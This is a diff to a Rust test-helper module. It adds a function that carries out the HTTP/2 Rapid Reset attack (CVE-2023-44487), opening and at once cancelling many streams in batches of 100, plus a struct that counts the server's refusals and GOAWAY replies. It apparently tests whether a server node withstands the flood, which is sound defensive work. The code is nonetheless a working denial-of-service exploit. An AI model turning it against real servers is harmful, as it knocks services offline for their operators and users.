@@ -280,3 +280,66 @@ pub async fn h2c_connect(addr: SocketAddr) -> (TcpStream, Vec<(u16, u32)>) {
     tcp.write_all(&ack).await.unwrap();
     (tcp, settings)
 }
+
+/// What an h2 client saw of the node's answers.
+#[derive(Debug, Default)]
+pub struct H2Seen {
+    /// Streams opened.
+    pub sent: u32,
+    /// Response HEADERS frames.
+    pub responses: u32,
+    /// Streams refused with RST_STREAM(REFUSED_STREAM).
+    pub refused: u32,
+    /// The GOAWAY error code, if the node sent one.
+    pub goaway: Option<u32>,
+}
+
+impl H2Seen {
+    pub fn record(&mut self, f: &Frame) {
+        match f.kind {
+            HEADERS => self.responses += 1,
+            RST_STREAM if f.error_code() == REFUSED_STREAM => self.refused += 1,
+            GOAWAY => self.goaway = Some(f.error_code()),
+            _ => {}
+        }
+    }
+}
+
+/// CVE-2023-44487 from one connection: opens `streams` GET streams to
+/// `host` and cancels each at once, 100 per write, until done or the node
+/// closes; then half-closes and reads until the node closes (30 s at most).
+pub async fn h2_rapid_reset(addr: SocketAddr, host: &str, streams: u32) -> H2Seen {
+    let (tcp, settings) = h2c_connect(addr).await;
+    assert!(
+        settings.contains(&(SETTINGS_MAX_CONCURRENT_STREAMS, 100)),
+        "{settings:?}"
+    );
+    let (mut rd, mut wr) = tcp.into_split();
+    let reader = tokio::spawn(async move {
+        let mut seen = H2Seen::default();
+        loop {
+            let frame = tokio::time::timeout(Duration::from_secs(30), read_frame(&mut rd))
+                .await
+                .expect("the node answers or closes an h2 flood within 30 s");
+            let Some(f) = frame else { break seen };
+            seen.record(&f);
+        }
+    });
+    let mut sent = 0;
+    while sent < streams {
+        let batch = (streams - sent).min(100);
+        let mut buf = Vec::new();
+        for i in 0..batch {
+            let id = 1 + 2 * (sent + i);
+            get_headers(&mut buf, id, host);
+            rst_stream(&mut buf, id, CANCEL);
+        }
+        if wr.write_all(&buf).await.is_err() {
+            break;
+        }
+        sent += batch;
+    }
+    let _ = wr.shutdown().await;
+    let seen = reader.await.unwrap();
+    H2Seen { sent, ..seen }
+}
